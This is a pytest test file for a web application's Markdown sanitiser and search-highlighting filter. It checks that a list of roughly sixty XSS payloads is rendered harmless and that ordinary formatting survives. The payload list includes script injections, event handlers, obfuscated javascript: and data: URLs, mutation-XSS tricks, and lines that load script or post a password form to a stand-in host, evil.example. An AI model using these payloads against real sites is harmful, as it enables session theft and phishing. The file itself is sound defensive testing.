"""The Markdown sanitiser against XSS payloads, what it must keep, and the search highlighting filter."""

import re
from html.parser import HTMLParser

import pytest

from sharing.markdown import render_markdown
from sharing.selectors import HIGHLIGHT_START, HIGHLIGHT_STOP
from sharing.templatetags.sharing_tags import highlight

XSS_PAYLOADS = [
    # script tags, plain and dressed up
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "Text <script>alert(1)</script> more text",
    "<svg><script>alert(1)</script></svg>",
    # event handlers, on tags we refuse and on tags we allow
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'/>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<a href=https://example.gov onclick=alert(1)>link</a>",
    "<a href=https://example.gov onmouseover='alert(1)'>link</a>",
    "<h2 onmouseover=alert(1)>heading</h2>",
    "<abbr title=x onclick=alert(1)>abbr</abbr>",
    "<p onclick=alert(1)>paragraph</p>",
    "<td onfocus=alert(1) autofocus tabindex=0>cell</td>",
    # frames, plug-ins, forms, documents in documents
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<form action=https://evil.example><input name=password><button>Sign in</button></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    # javascript: links in Markdown and in HTML, plain and obfuscated
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](  javascript:alert(1))",
    "[click](jav&#x09;ascript:alert(1))",
    "[click](javascript&colon;alert(1))",
    "[click][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    '<a href="jav&#x09;ascript:alert(1)">click</a>',
    '<a href="jav\tascript:alert(1)">click</a>',
    "<a href='java\nscript:alert(1)'>click</a>",
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">click</a>',
    '<a href="javascript&colon;alert(1)">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    "[click](vbscript:msgbox(1))",
    # data: URLs
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="data:text/html,<script>alert(1)</script>">click</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    # Markdown images with script URLs
    "![x](javascript:alert(1))",
    '![x](https://example.gov/x.png "title" onerror=alert(1))',
    # styles
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<th scope=col style=color:red>cell</th>",
    '<a href="https://example.gov" style="position:fixed;top:0;left:0;width:100%;height:100%">cover</a>',
    "<style>body { display: none }</style>",
    "<style>@import 'https://evil.example/x.css';</style>",
    # MathML and SVG namespace confusion (mutation XSS)
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><mi xlink:href=javascript:alert(1)>click</mi></math>",
    "<svg><a xlink:href=javascript:alert(1)><text x=20 y=20>click</text></a></svg>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    # comments, conditional comments, CDATA
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!-- <script>alert(1)</script> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    # attribute break-outs
    '<a href="https://example.gov" title=\'" onmouseover=alert(1) x="\'>link</a>',
    '<a href="https://example.gov"" onmouseover="alert(1)">link</a>',
]

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "object", "embed", "svg", "math", "form", "input", "button", "style", "link",
    "meta", "base", "img", "noscript", "details", "body", "html", "textarea", "select",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster", "data"}
SAFE_SCHEMES = {"", "http", "https", "mailto"}  # "" is a relative URL: a link within the site


class Elements(HTMLParser):
    """Every start tag of a fragment with its attributes, as a browser would read them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, attrs))

    handle_startendtag = handle_starttag


def elements(html: str):
    parser = Elements()
    parser.feed(html)
    parser.close()
    return parser.found


C0_CONTROLS_AND_SPACE = "".join(map(chr, range(0x21)))


def url_scheme(url: str) -> str:
    """The scheme a browser would find in an attribute's URL (WHATWG URL parsing: surrounding controls
    and spaces dropped, tabs and newlines removed anywhere); "" for a relative URL."""
    url = re.sub(r"[\t\n\r]", "", url.strip(C0_CONTROLS_AND_SPACE))
    match = re.match(r"([a-zA-Z][a-zA-Z0-9+.-]*):", url)
    return match[1].lower() if match else ""


def assert_harmless(html: str) -> None:
    """No script, style, comment, forbidden element, event handler, style attribute or unsafe URL."""
    lowered = html.lower()
    # A "<" of the author's text is escaped, so these can only be markup.
    for needle in ("<script", "<style", "<!--"):
        assert needle not in lowered, f"{needle!r} in {html!r}"
    for tag, attrs in elements(html):
        assert tag not in FORBIDDEN_TAGS, f"<{tag}> in {html!r}"
        for name, value in attrs:
            assert not name.startswith("on"), f"event handler {name} in {html!r}"
            assert name != "style", f"style attribute in {html!r}"
            if name in URL_ATTRIBUTES:
                # The parser has decoded character references: this is the URL a browser would follow.
                assert url_scheme(value or "") in SAFE_SCHEMES, f"{name}={value!r} in {html!r}"


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_is_rendered_harmless(payload):
    assert_harmless(render_markdown(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_inside_markdown_is_rendered_harmless(payload):
    text = (
        f"## Findings\n\n* first point\n* {payload}\n\n> quoted {payload}\n\n| a | b |\n|---|---|\n| {payload} | x |\n"
    )
    assert_harmless(render_markdown(text))


def test_the_checks_above_catch_what_they_look_for():
    """The harness itself: unsanitised HTML fails it."""
    for raw in (
        "<script>alert(1)</script>",
        '<a href="jav&#x09;ascript:alert(1)">x</a>',
        '<a href="https://example.gov" onclick="alert(1)">x</a>',
        '<p style="color:red">x</p>',
        "<svg></svg>",
        '<a href="data:text/html,x">x</a>',
        '<a href=" java\tscript:alert(1)">x</a>',
    ):
        with pytest.raises(AssertionError):
            assert_harmless(raw)


# --- what must survive ----------------------------------------------------------------------------

LEGITIMATE = """## Assessment

Thieves cut **ground wires** and *copper* at three substations; see the `SAR-2026-14` report.

### What partners should do

1. Check fences nightly.
2. Report suspicious activity:
    * vehicles parked near gates,
    * people photographing equipment.

| Site | Date | Loss |
|------|------|------|
| Garner | 2026-11-02 | $12,000 |

Read the [DHS advisory](https://www.dhs.gov/advisory) or write to [the desk](mailto:desk@ncisaac.example.gov).

> Expect more thefts as copper prices rise.

```
grep -i copper incidents.csv
```
"""


def test_legitimate_markdown_survives():
    html = render_markdown(LEGITIMATE)

    assert "<h2>Assessment</h2>" in html
    assert "<h3>What partners should do</h3>" in html
    assert "<strong>ground wires</strong>" in html
    assert "<em>copper</em>" in html
    assert "<code>SAR-2026-14</code>" in html
    assert "<ol>" in html
    assert "<li>Check fences nightly.</li>" in html
    assert "<ul>" in html
    assert "<li>vehicles parked near gates,</li>" in html
    assert "<table>" in html
    assert "<th>Site</th>" in html
    assert "<td>Garner</td>" in html
    assert "<td>$12,000</td>" in html
    assert '<a href="https://www.dhs.gov/advisory" rel="noopener noreferrer nofollow">DHS advisory</a>' in html
    assert '<a href="mailto:desk@ncisaac.example.gov" rel="noopener noreferrer nofollow">the desk</a>' in html
    assert "<blockquote>" in html
    assert "<pre><code>grep -i copper incidents.csv\n</code></pre>" in html
    assert_harmless(html)


def test_code_shows_markup_as_text():
    html = render_markdown(
        "Do not paste `<script>alert(1)</script>` into forms.\n\n```\n<img src=x onerror=alert(1)>\n```"
    )
    assert "<code>&lt;script&gt;alert(1)&lt;/script&gt;</code>" in html
    assert "<pre><code>&lt;img src=x onerror=alert(1)&gt;\n</code></pre>" in html
    assert elements(html) == [("p", []), ("code", []), ("pre", []), ("code", [])]


def test_empty_text_renders_nothing():
    assert render_markdown("") == ""
    assert render_markdown(None) == ""


# --- the search highlighting filter ---------------------------------------------------------------


def test_highlight_escapes_the_snippet_and_marks_only_the_matches():
    snippet = f'<b onclick="x">Copper</b> {HIGHLIGHT_START}theft{HIGHLIGHT_STOP} & <script>alert(1)</script>'

    html = highlight(snippet)

    assert html == (
        "&lt;b onclick=&quot;x&quot;&gt;Copper&lt;/b&gt; <mark>theft</mark> &amp; &lt;script&gt;alert(1)&lt;/script&gt;"
    )
    assert elements(html) == [("mark", [])]


def test_highlight_does_not_trust_mark_tags_in_the_text():
    html = highlight("<mark>not a match</mark> " + HIGHLIGHT_START + "match" + HIGHLIGHT_STOP)
    assert html == "&lt;mark&gt;not a match&lt;/mark&gt; <mark>match</mark>"


def test_highlight_of_nothing_is_empty():
    assert highlight("") == ""
    assert highlight(None) == ""
